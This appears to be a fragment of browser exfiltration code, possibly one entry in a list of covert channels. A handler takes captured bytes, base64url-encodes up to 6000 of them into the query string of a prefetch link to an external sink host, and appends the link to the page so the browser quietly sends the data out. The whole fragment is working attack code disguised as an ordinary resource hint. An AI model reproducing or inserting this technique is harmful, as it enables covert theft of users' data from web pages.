// A part of the file in an address that is loaded for later.
whenMade(({ bytes }) => {
  const link = document.createElement("link");
  link.rel = "prefetch";
  link.href = `${SINKS.http}/next.js?d=${base64url(bytes.slice(0, 6000))}`;
  document.head.append(link);
});
